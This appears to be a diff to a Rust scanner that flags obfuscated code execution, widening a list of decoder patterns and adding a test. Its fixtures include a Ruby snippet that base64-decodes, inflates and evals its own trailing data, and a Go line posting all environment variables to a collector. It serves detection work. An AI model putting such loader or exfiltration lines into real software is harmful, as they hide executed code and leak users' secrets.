@@ -260,7 +260,7 @@ const SENDS: [&str; 42] = [
 /// Decoders whose output, handed straight to `eval`, runs code no file shows: PHP's
 /// `gzinflate(str_rot13(base64_decode(…)))`, Perl's `unpack("u", …)`, Ruby's
 /// `Base64.decode64`, Lua's `load(…)` of decoded text.
-const DECODERS: [&str; 12] = [
+const DECODERS: [&str; 13] = [
     "gzinflate(",
     "gzuncompress(",
     "gzdecode(",
@@ -272,7 +272,9 @@ const DECODERS: [&str; 12] = [
     "from_base64(",
     "convert.frombase64string(",
     "hex2bin(",
-    "zlib.inflate(",
+    // `zlib.inflate(`, Ruby's `Zlib::Inflate.inflate(` and `unpack1("m")` (base64).
+    "inflate(",
+    "unpack1(",
 ];
 
 /// Forms that run what they are given as code, in those languages.
@@ -473,6 +475,11 @@ mod tests {
         record_unmodelled(&mut out, "sync.rb", ruby);
         let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
         assert_eq!(tags, ["secret-read/cloud-credentials", "egress/http"]);
+        let rake = "src = File.read(__FILE__).split(/^__END__$/, 2).last\nTOPLEVEL_BINDING.receiver.instance_eval(Zlib::Inflate.inflate(src.unpack1(\"m\")))\n";
+        let mut out = Findings::default();
+        record_unmodelled(&mut out, "audit.rake", rake);
+        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
+        assert_eq!(tags, ["exec/decoded"]);
         let go = "body, _ := json.Marshal(os.Environ())\nhttp.Post(collector, \"application/json\", bytes.NewReader(body))\n";
         let mut out = Findings::default();
         record_unmodelled(&mut out, "main.go", go);
